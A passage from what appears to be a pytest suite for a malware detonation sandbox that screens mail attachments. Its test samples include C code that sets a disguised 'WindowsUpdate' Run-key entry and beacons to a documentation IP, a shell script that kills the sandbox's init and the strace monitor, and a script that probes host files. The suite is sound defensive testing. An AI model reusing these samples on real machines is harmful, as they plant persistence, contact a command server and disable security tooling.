    const char *cmd = "C:\\Users\\Public\\svchost.exe";
    if (RegOpenKeyExA(HKEY_CURRENT_USER, "Software\\Microsoft\\Windows\\CurrentVersion\\Run", 0,
                      KEY_SET_VALUE, &k) == 0) {
        RegSetValueExA(k, "WindowsUpdate", 0, REG_SZ, (const BYTE *)cmd, (DWORD)strlen(cmd) + 1);
        RegCloseKey(k);
    }
    WSADATA w;
    WSAStartup(MAKEWORD(2, 2), &w);
    SOCKET s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in a = {0};
    a.sin_family = AF_INET;
    a.sin_port = htons(8443);
    a.sin_addr.s_addr = inet_addr("203.0.113.77");
    connect(s, (struct sockaddr *)&a, sizeof a);
    send(s, "beacon", 6, 0);
    closesocket(s);
    return 0;
}
"""


@pytest.mark.sandbox
@pytest.mark.slow
@pytest.mark.skipif(_wine_reason() is not None, reason=f"Wine test unavailable: {_wine_reason()}")
def test_windows_pe_run_key_and_c2_under_wine(run, tmp_path, monkeypatch):
    # the prefix template persists between runs (creating it takes 5-12 s; the guest image ships one)
    monkeypatch.setenv(W.TEMPLATE_ENV, "/var/tmp/mailvm-test-wine-template")
    src = tmp_path / "pe.c"
    src.write_text(PE_SOURCE)
    exe = tmp_path / "pe.exe"
    subprocess.run(["x86_64-w64-mingw32-gcc", "-O1", "-o", str(exe), str(src), "-lws2_32"], check=True)
    r = run(exe.read_bytes(), "Invoice_2024.exe", timeout_s=60)
    assert r["launcher"] == "wine_pe"
    assert r["verdict"] == "malicious", r["findings"]
    assert {"persistence_registry_run", "network_raw_ip"} <= ids(r)
    text = log_text(r)
    assert "203.0.113.77:8443" in text and "WindowsUpdate" in text
    assert any(e["type"] == "reg_set" and e.get("src") == "reg_diff" and e["value"] == "WindowsUpdate"
               and "svchost.exe" in e["data"] for e in r["log"])
    # Wine's own start-up (template copy, services, its temp files) raises no behaviour findings
    assert not ids(r) & {"write_outside_workdir", "library_from_writable_dir", "shell_spawned"}, r["findings"]


@pytest.mark.sandbox
@pytest.mark.slow
@pytest.mark.skipif(_wine_reason() is not None, reason=f"Wine test unavailable: {_wine_reason()}")
def test_windows_pe_in_a_warm_wine_sandbox_through_its_socket(tmp_path, monkeypatch):
    """The qemu guest's path, on the host: a warm Wine sandbox serves one job handed over its socket."""
    from mailvm.guest import winewarm as WW

    monkeypatch.setenv(W.TEMPLATE_ENV, "/var/tmp/mailvm-test-wine-template")
    src = tmp_path / "pe.c"
    src.write_text(PE_SOURCE)
    exe = tmp_path / "Invoice_2024.exe"
    subprocess.run(["x86_64-w64-mingw32-gcc", "-O1", "-o", str(exe), str(src), "-lws2_32"], check=True)
    sock = str(tmp_path / "run" / "warm.sock")
    (tmp_path / "warm").mkdir()
    served: list[int] = []
    daemon = threading.Thread(target=lambda: served.append(WW.serve(sock, str(tmp_path / "warm"))), daemon=True)
    daemon.start()
    deadline = time.monotonic() + 120
    while not os.path.exists(sock) and daemon.is_alive() and time.monotonic() < deadline:
        time.sleep(0.05)
    assert os.path.exists(sock), "the warm Wine sandbox never became ready"
    assert oct(os.stat(os.path.dirname(sock)).st_mode & 0o777) == "0o700"
    box_dirs = [d for d in (tmp_path / "warm").iterdir() if d.name.startswith("det-")]
    assert len(box_dirs) == 1 and not (box_dirs[0] / "box/work" / WW.CTL_DIR).exists()  # channel unlinked
    monkeypatch.setenv(WW.SOCKET_ENV, sock)
    (tmp_path / "job").mkdir()
    t0 = time.monotonic()
    r = detonate(str(exe), {"name": exe.name, "timeout_s": 60}, str(tmp_path / "job"))
    took = time.monotonic() - t0
    daemon.join(30)
    assert served == [0] and not os.path.exists(sock)  # one job, then gone
    assert r["launcher"] == "wine_pe" and r["verdict"] == "malicious", r["findings"]
    assert ids(r) == {"persistence_registry_run", "network_raw_ip", "combo_persistence_c2"}, r["findings"]
    wine_ev = [e for e in r["log"] if e["type"] == "wine"]
    assert wine_ev and wine_ev[0]["warm"] is True and wine_ev[0]["server_age_s"] > 0, wine_ev
    # the warm wineserver served the sample and counts as the sample's: its connect is in the trace
    assert any(e["type"] == "connect" and e.get("port") == 8443 and "src" not in e for e in r["log"]), r["log"]
    assert any(e["type"] == "reg_set" and e.get("src") == "reg_diff" and e["value"] == "WindowsUpdate"
               for e in r["log"])
    # nothing of the warm-up (wineboot, services.exe) is reported as the sample's
    assert not any(e["type"] == "exec" and "wineboot" in str(e.get("argv")) for e in r["log"]), r["log"]
    assert not [d for d in (tmp_path / "warm").iterdir() if d.name.startswith("det-")]
    print(f"\nwarm Wine on the host: {took:.2f} s ({r['duration_s']} s in the detonation)")


@pytest.mark.sandbox
@pytest.mark.skipif(SANDBOX_REASON is not None, reason=f"sandbox unavailable: {SANDBOX_REASON}")
def test_a_syscall_flood_is_cut_at_the_trace_cap(run, monkeypatch):
    import mailvm.guest.detonate as D

    monkeypatch.setattr(D, "MAX_TRACE_BYTES", 2 << 20)
    t = time.monotonic()
    r = run(b"import os\nwhile True:\n    os.stat('/work')\n", "flood.py", timeout_s=60)
    assert time.monotonic() - t < 30
    assert r["stopped"] == "timeout" and "trace_truncated" in ids(r)
    assert r["log"][0]["type"] == "sandbox" and r["log"][0]["network"] == "iptables REDIRECT"


def _minimal_pdf(text: str) -> bytes:
    """A small, valid one-page PDF (objects, xref table and trailer computed here)."""
    stream = f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET".encode()
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
               b"/Resources << /Font << /F1 5 0 R >> >> >>",
               b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
               b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"]
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for i, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


@pytest.mark.sandbox
@pytest.mark.skipif(SANDBOX_REASON is not None, reason=f"sandbox unavailable: {SANDBOX_REASON}")
@pytest.mark.skipif(L.find_tool("pdftotext") is None and L.find_tool("mutool") is None,
                    reason="no PDF renderer installed (poppler-utils or mupdf-tools)")
def test_benign_pdf_opens_in_the_viewer_and_is_clean(run):
    r = run(_minimal_pdf("Quarterly report"), "report.pdf", type="application/pdf", kind="pdf")
    assert r["launcher"] in ("pdf_mutool", "pdf_poppler")
    assert r["verdict"] == "clean" and r["score"] < 4, r["findings"]
    assert r["stopped"] == "exited_idle"
    viewer = next(e for e in r["log"] if e["type"] == "exec")
    assert viewer["argv"][-2:] == ["/work/report.pdf", "/dev/null"] or "/work/report.pdf" in viewer["argv"]


@pytest.mark.sandbox
@pytest.mark.skipif(SANDBOX_REASON is not None, reason=f"sandbox unavailable: {SANDBOX_REASON}")
def test_a_killed_agent_leaves_no_process_behind(tmp_path):
    """SIGKILL of the agent mid-run: strace, bwrap, the sample, fakenet and the namespace holder all go."""
    marker = "mvorphan" + uuid.uuid4().hex[:12]
    sample = tmp_path / "s.sh"
    sample.write_text(f"#!/bin/sh\nexec python3 -c 'import time; time.sleep(1000)' {marker}\n")
    code = ("import sys\n"
            f"sys.path.insert(0, {str(Path(__file__).resolve().parents[1])!r})\n"
            "from mailvm.guest.detonate import detonate\n"
            f"detonate({str(sample)!r}, {{'name': 's.sh', 'timeout_s': 120}}, {str(tmp_path / 'wd')!r})\n")
    agent = subprocess.Popen(["/usr/bin/python3", "-c", code])
    try:
        deadline = time.monotonic() + 20
        while time.monotonic() < deadline and not procs_with(marker):
            time.sleep(0.05)
        assert procs_with(marker), "the sample never started"
        helpers = [p for p in procs_with(f"--parent {agent.pid}") + procs_with("infinity")
                   if _ppid(p) == agent.pid]
        assert helpers  # fakenet and the namespace holder are children of the agent
    finally:
        agent.kill()
        agent.wait()
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline and (procs_with(marker) or any(_running(p) for p in helpers)):
        time.sleep(0.05)
    assert procs_with(marker) == []
    assert not any(_running(p) for p in helpers)


def _ppid(pid: int) -> int:
    try:
        with open(f"/proc/{pid}/stat") as fh:
            return int(fh.read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        return -1


def _running(pid: int) -> bool:
    try:
        with open(f"/proc/{pid}/stat") as fh:
            return fh.read().rsplit(")", 1)[1].split()[0] != "Z"
    except OSError:
        return False


# ------------------------------------------------------------------ what the sample may see and do to the sandbox


PEEK = r"""
import json, os
out = {}
for p in %s:
    try:
        if os.path.isdir(p):
            out[p] = sorted(os.listdir(p))
        else:
            with open(p, "rb") as fh:
                out[p] = fh.read(200).decode("latin-1")
    except OSError as exc:
        out[p] = "ERR " + type(exc).__name__
print("PEEK" + json.dumps(out))
"""


@pytest.mark.sandbox
@pytest.mark.skipif(SANDBOX_REASON is not None, reason=f"sandbox unavailable: {SANDBOX_REASON}")
def test_the_sandbox_hides_host_configuration_opt_and_hardware_identity(run):
    """What the host has in /etc for mail, the filter and its services, its machine id, /opt and the
    hardware identity in /sys are not the sample's to read; the libraries and the rest of /etc are."""
    hidden_files = [p for p in S.HIDDEN_FILES if os.path.isfile(p)]
    hidden_dirs = [p for p in S.HIDDEN_DIRS if os.path.isdir(p) and os.listdir(p)]
    wanted = hidden_files + hidden_dirs + ["/etc/machine-id", "/opt", "/etc/ld.so.cache", "/etc/passwd"]
    if not hidden_files and not hidden_dirs:
        pytest.skip("this machine has none of the hidden host paths to compare with")
    r = run((PEEK % json.dumps(wanted)).encode(), "peek.py")
    line = next(e["text"] for e in r["log"] if e["type"] == "output" and "PEEK" in e["text"])
    seen = json.loads(line.split("PEEK", 1)[1].splitlines()[0])
    for p in hidden_files:
        assert seen[p] in ("", "ERR FileNotFoundError"), (p, seen[p])
    for p in hidden_dirs:
        assert seen[p] in ([], "ERR FileNotFoundError"), (p, seen[p])
    with open("/etc/machine-id") as fh:
        assert seen["/etc/machine-id"].strip() != fh.read().strip()
    assert not set(seen["/opt"] if isinstance(seen["/opt"], list) else []) - {os.path.basename(d)
                                                                            for d in S.OPT_TOOL_DIRS}
    assert not str(seen["/etc/ld.so.cache"]).startswith("ERR") and "user:x:" in seen["/etc/passwd"]
    assert r["executed"] is True


@pytest.mark.sandbox
@pytest.mark.skipif(SANDBOX_REASON is not None, reason=f"sandbox unavailable: {SANDBOX_REASON}")
def test_attacks_on_the_sandbox_and_the_monitor_are_findings(run):
    """kill -9 of the sandbox's pid 1 (the sample's parent, which anchors the trace), kill(-1) and
    pkill of the tracer: each is seen, none ends the run early, and the host's strace lives on."""
    script = (b"#!/bin/sh\nkill -9 1\nkill -TERM -1\npkill -9 strace\npkill -9 -f mailvm\n"
              b"echo still-here\n")
    r = run(script, "tamper.sh", timeout_s=20)
    found = {f["id"]: f for f in r["findings"]}
    assert "sandbox_tampering" in found and "security_tool_tampering" in found, r["findings"]
    assert "kill(1, SIGKILL)" in found["sandbox_tampering"]["detail"] or \
        "kill(1, 9)" in found["sandbox_tampering"]["detail"], found["sandbox_tampering"]
    assert "strace" in found["security_tool_tampering"]["detail"]
    assert "anti_vm_probe" not in found, found  # pkill reads /proc/1/cgroup to match names: not a probe
    assert r["verdict"] == "malicious" and r["executed"] is True
    assert any(e["type"] == "output" and "still-here" in e["text"] for e in r["log"]), r["log"]


@pytest.mark.sandbox
@pytest.mark.skipif(SANDBOX_REASON is not None, reason=f"sandbox unavailable: {SANDBOX_REASON}")
def test_an_out_of_memory_kill_is_a_finding(tmp_path):
    """A sample that passes the memory cgroup's limit is killed by the kernel, and the report says so."""
    from mailvm.guest.detonate import Detonation

    probe = S.Cgroups("mailvm-probe-" + uuid.uuid4().hex[:8], Limits(memory=64 << 20))
    try:
        probe.create()
        missing = probe.missing()
    finally:
        probe.remove()
    if "memory" in missing:
        pytest.skip("no memory cgroup controller on this machine: only the rlimits bound a sample here")
    sample = tmp_path / "hog.py"
    sample.write_text("chunks = []\nwhile True:\n    chunks.append(b'x' * (16 << 20))\n")
    (tmp_path / "wd").mkdir()
    r = Detonation(str(sample), parse_options({"name": "hog.py", "timeout_s": 30}), str(tmp_path / "wd"), None,
                   limits=Limits(memory=96 << 20)).run()
    found = {f["id"]: f for f in r["findings"]}
    assert "memory_exhaustion" in found, r["findings"]
    assert "96 MiB" in found["memory_exhaustion"]["detail"]
    assert r["verdict"] == "suspicious" and r["executed"] is True
